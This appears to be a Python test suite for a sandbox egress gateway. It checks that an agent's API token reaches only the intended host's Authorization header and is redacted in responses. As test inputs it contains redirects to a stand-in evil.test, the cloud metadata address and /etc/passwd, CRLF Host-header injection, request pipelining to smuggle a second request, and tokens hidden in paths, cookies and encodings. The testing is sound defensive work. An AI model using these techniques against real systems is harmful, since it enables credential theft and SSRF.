"""NET-02, NET-05, NET-06: names that disagree, invitations elsewhere, and every place a secret could be put or come back from. The agent is python3 with raw sockets."""
import base64
import gzip
import http.server
import json
import os
import ssl
import threading
import unittest
import zlib

from harness import Authority, BoxCase, Origin

SECRET = "s3cr3t-0123456789-token"

TALK = r'''
import json, os, socket, ssl, sys, urllib.parse
tok = os.environ["TOK"]
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
def raw(data, host=None, sni=None, parts=None, verify=True, limit=1 << 20):
    """Bytes to the gateway; with host through CONNECT and TLS. Everything that came back."""
    s = socket.create_connection((proxy.hostname, proxy.port), timeout=15)
    try:
        if host:
            s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (host, host)).encode())
            head = b""
            while b"\r\n\r\n" not in head:
                piece = s.recv(4096)
                if not piece:
                    return head.decode("latin-1")
                head += piece
            if b" 200 " not in head.split(b"\r\n")[0]:
                return head.decode("latin-1")
            c = ssl.create_default_context()
            if sni is None or not verify:
                c.check_hostname = False
            s = c.wrap_socket(s, server_hostname=sni)
        for part in parts or [data]:
            s.sendall(part)
        got = b""
        while len(got) < limit:
            piece = s.recv(65536)
            if not piece:
                break
            got += piece
        return got.decode("latin-1")
    except (OSError, ssl.SSLError) as e:
        return "error: " + str(e)
    finally:
        s.close()
def get(host, path="/", headers="", method="GET", sni="same", authority=None, body=b""):
    h = "%s %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n%s%s\r\n" % (method, path, authority or host.split(":")[0], headers, "Content-Length: %d\r\n" % len(body) if body else "")
    return raw(h.encode("latin-1") + body, host=host, sni=host.split(":")[0] if sni == "same" else sni)
def status(text):
    return text.split(" ")[1] if text.startswith("HTTP/1.1 ") else text[:60]
auth = "Authorization: Bearer " + tok + "\r\n"
out = {}
'''


class Mirror(http.server.BaseHTTPRequestHandler):
    """Reflects what it was sent, in the way the path asks for."""
    protocol_version = "HTTP/1.1"
    seen = []

    def log_message(self, *args):
        pass

    def answer(self):
        size = int(self.headers.get("Content-Length") or 0)
        data = self.rfile.read(size)
        Mirror.seen.append((self.headers.get("Host"), self.command, self.path, dict(self.headers), data))
        value = self.headers.get("Authorization", "").encode()
        how = self.path.split("?")[0].strip("/")
        body, extra, code = b"ok " + value, {}, 200
        if how == "header":
            body, extra = b"ok", {"X-Echo": value.decode()}
        elif how == "error":
            code = 500
        elif how == "gzip":
            body, extra = gzip.compress(body), {"Content-Encoding": "gzip"}
        elif how == "deflate":
            body, extra = zlib.compress(body), {"Content-Encoding": "deflate"}
        elif how == "base64":
            body = base64.b64encode(value)
        elif how == "redirect":
            body, code, extra = b"", 302, {"Location": self.headers.get("X-To", "/")}
        elif how == "altsvc":
            body, extra = b"ok", {"Alt-Svc": 'h3=":443"', "Link": "<http://evil.test/>; rel=preload"}
        if how in ("chunked", "split", "trailer"):
            self.send_response(code)
            self.send_header("Transfer-Encoding", "chunked")
            if how == "trailer":
                self.send_header("Trailer", "X-Echo")
            self.end_headers()
            pieces = [body[i:i + 1] for i in range(len(body))] if how == "split" else [body]
            for p in pieces if how != "trailer" else [b"ok"]:
                self.wfile.write(b"%x\r\n%s\r\n" % (len(p), p))
                self.wfile.flush()
            self.wfile.write(b"0\r\n" + (b"X-Echo: " + value + b"\r\n" if how == "trailer" else b"") + b"\r\n")
            self.close_connection = True
            return
        if how == "interim":
            self.wfile.write(b"HTTP/1.1 103 Early Hints\r\nX-Echo: " + value + b"\r\n\r\n")
        self.send_response(code)
        for k, v in extra.items():
            self.send_header(k, v)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
        self.close_connection = True

    do_GET = do_POST = do_PUT = do_TRACE = answer


class Secrets(BoxCase):
    def setUp(self):
        super().setUp()
        if not os.path.exists("/usr/bin/python3"):
            self.skipTest("python3 is not installed")
        self.tls = Authority(os.path.join(self.conf, "tls"), "api.test", "free.test", "evil.test")
        Mirror.seen = []
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Mirror)
        self.server.daemon_threads = True
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(self.tls.chain)
        self.server.socket = context.wrap_socket(self.server.socket, server_side=True)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.addCleanup(self.server.server_close)
        self.addCleanup(self.server.shutdown)
        self.plain = Origin()
        self.addCleanup(self.plain.close)
        self.policy('@id("all") permit (principal, action, resource);\n@id("evil") forbid (principal, action == Box::Action::"net:connect", resource) when { context.input.host == "evil.test" };')
        port = self.server.server_address[1]
        self.config(command='["/usr/bin/python3", "-B", "-c"]', agent='[agent.filesystem]\nread = ["/usr/lib"]\n', rest=f"""
[egress.api]
destinations = ["api.test"]
secret.ref = "env://TOK"
trust = "tls/ca.pem"
[egress.free]
destinations = ["free.test"]
secret.ref = "env://TOK2"
secret.header = "x-other"
secret.inject = "always"
trust = "tls/ca.pem"
[resolve]
"api.test:443" = "127.0.0.1:{port}"
"free.test:443" = "127.0.0.1:{port}"
"evil.test:443" = "127.0.0.1:{port}"
"api.test:80" = "127.0.0.1:{self.plain.port}"
"free.test:80" = "127.0.0.1:{self.plain.port}"
"evil.test:80" = "127.0.0.1:{self.plain.port}"
""")

    def talk(self, script):
        r = self.box("--", TALK + script + "\nprint(json.dumps(out))\n", env={"TOK": SECRET, "TOK2": "other-secret-987654321"})
        self.assertEqual(r.status, 0, r.err[-2000:])
        self.assertNotIn(SECRET, r.out + r.err)
        with open(os.path.join(self.box_dir, "private/telemetry/records.jsonl"), encoding="utf-8") as f:
            self.assertNotIn(SECRET, f.read())
        return json.loads(r.out)

    def test_the_probe_works(self):
        a = self.talk('out["a"] = get("api.test:443", headers=auth)')
        self.assertIn("200 OK", a["a"])
        self.assertEqual(Mirror.seen[0][3]["Authorization"], "Bearer " + SECRET)

    def test_other_places_get_the_placeholder_or_nothing(self):
        a = self.talk(r'''
import base64
basic = base64.b64encode(("user:" + tok).encode()).decode()
cases = {
 "path": dict(path="/p/" + tok, headers=auth), "query": dict(path="/?q=" + tok, headers=auth), "body": dict(method="POST", body=tok.encode(), headers=auth),
 "second header": dict(headers=auth + "X-Key: " + tok + "\r\n"), "cookie": dict(headers=auth + "Cookie: t=" + tok + "\r\n"), "header name": dict(headers=auth + tok + ": x\r\n"),
}
for k, v in cases.items():
    out[k] = status(get("api.test:443", **v))
bad = {
 "twice": auth + auth, "basic": "Authorization: Basic " + basic + "\r\n", "upper": "Authorization: Bearer " + tok.upper() + "\r\n", "encoded": "Authorization: Bearer " + base64.b64encode(tok.encode()).decode() + "\r\n",
 "percent": "Authorization: Bearer " + "".join("%%%02x" % ord(c) for c in tok) + "\r\n", "cookie only": "Cookie: t=" + tok + "\r\n", "suffix": "Authorization: Bearer " + tok + "x\r\n", "prefix": "Authorization: Bearer x" + tok + "\r\n",
 "continued": "Authorization: Bearer\r\n " + tok + "\r\n", "proxy": "Proxy-Authorization: Bearer " + tok + "\r\n", "two words": "Authorization: Bearer " + tok + " " + tok + "\r\n",
}
for k, v in bad.items():
    out["bad " + k] = status(get("api.test:443", headers=v))
out["split"] = status(raw(None, host="api.test:443", sni="api.test", parts=[("GET / HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n" + auth[:40]).encode(), (auth[40:] + "\r\n").encode()]))
out["unbound"] = get("free.test:443", headers=auth)
out["plain"] = raw(("GET http://api.test/ HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n" + auth + "\r\n").encode())
out["plain free"] = status(raw(("GET http://free.test/ HTTP/1.1\r\nHost: free.test\r\nConnection: close\r\n" + auth + "\r\n").encode()))
out["trace"] = status(get("api.test:443", method="TRACE", headers=auth))
''')
        for key, value in a.items():
            if key.startswith("bad "):
                self.assertIn(value, ("403", "400"), key)
        self.assertEqual(a["split"], "200")
        self.assertNotEqual(a["trace"], "200")
        self.assertIn("credential not permitted on a plaintext request", a["plain"])
        for host, _, path, headers, body in Mirror.seen:
            where = [k for k, v in headers.items() if SECRET in v]
            self.assertEqual(where, ["Authorization"] if host.startswith("api.test") else [], (host, path, headers))
            self.assertNotIn(SECRET, path + body.decode("latin-1") + " ".join(headers))
        for request in self.plain.requests:
            self.assertNotIn(SECRET, str(request))
            self.assertNotIn("other-secret", str(request))

    def test_it_does_not_come_back(self):
        a = self.talk(r'''
for how in ("body", "header", "error", "gzip", "deflate", "chunked", "split", "trailer", "interim", "redirect"):
    out[how] = get("api.test:443", path="/" + how, headers=auth + "Accept-Encoding: gzip, br\r\nX-To: https://api.test/?t=1\r\n")
''')
        for how, text in a.items():
            self.assertNotIn(SECRET, text, how)
            self.assertNotIn(SECRET.encode().hex(), text, how)
        for how in ("gzip", "deflate"):
            self.assertTrue("response blocked by egress control" in a[how] or "[REDACTED]" in a[how], a[how])
        for how in ("body", "error", "chunked", "split"):
            self.assertIn("[REDACTED]", a[how].replace("\r\n", ""), how)

    def test_redirects_are_new_decisions(self):
        a = self.talk(r'''
import urllib.request, urllib.error
for to in ("https://evil.test/", "http://169.254.169.254/latest", "file:///etc/passwd", "http://api.test/", "https://api.test@evil.test/", "https://free.test/x"):
    q = urllib.request.Request("https://api.test/redirect", headers={"Authorization": "Bearer " + tok, "X-To": to})
    try:
        with urllib.request.urlopen(q, timeout=15) as r:
            out[to] = [r.status, r.read().decode("latin-1")[:200]]
    except urllib.error.HTTPError as e:
        out[to] = [e.code, e.read().decode("latin-1")[:200]]
    except OSError as e:
        out[to] = [0, str(e)[:200]]
out["alt"] = get("api.test:443", path="/altsvc", headers=auth)
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"x", ("1.1.1.1", 443))
    out["udp"] = "sent"
except OSError as e:
    out["udp"] = "refused"
''')
        self.assertEqual([x for x in Mirror.seen if (x[0] or "").startswith("evil.test")], [])
        self.assertEqual(a["udp"], "refused")
        self.assertNotEqual(a["https://evil.test/"][0], 200)
        self.assertEqual(a["http://169.254.169.254/latest"][0], 403)
        self.assertNotIn("root:", a["file:///etc/passwd"][1])
        for host, _, _, headers, _ in Mirror.seen:
            if not host.startswith("api.test"):
                self.assertNotIn(SECRET, str(headers))

    def test_names_that_disagree(self):
        """NET-02: CONNECT, SNI and Host name the same host, or nothing is sent on."""
        a = self.talk(r'''
for connect in ("api.test:443", "free.test:443"):
    for sni in ("api.test", "free.test", "evil.test", None):
        for host in ("api.test", "free.test", "evil.test", "api.test:444", "", "api.test\r\nHost: evil.test"):
            data = ("GET /%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n%s\r\n" % ("x", host, auth if connect[0] == "a" else "")).encode()
            out["%s|%s|%s" % (connect, sni, host)] = raw(data, host=connect, sni=sni, verify=False)
two = "GET /1 HTTP/1.1\r\nHost: api.test\r\n%s\r\nGET /2 HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n%s\r\n" % (auth, auth)
out["second"] = raw(two.encode(), host="api.test:443", sni="api.test")
''')
        for key, text in a.items():
            if key == "second":
                continue
            connect, sni, host = key.split("|")
            name = connect.split(":")[0]
            if "200 OK" in text:
                self.assertEqual(host, name, key)
                self.assertIn(sni, (name, "None"), key)
        # Every request that arrived was for the host that was decided, with that host's own secret.
        for host, _, path, headers, _ in Mirror.seen:
            self.assertIn(host.split(":")[0], ("api.test", "free.test"))
            self.assertEqual(SECRET in str(headers), host.startswith("api.test"), (host, headers))
            self.assertNotEqual(path, "/2")
        decided = [r for r in self.records() if r.action == "http:request" and r.verdict == "permit"]
        self.assertEqual(len(decided), len(Mirror.seen))


if __name__ == "__main__":
    unittest.main()
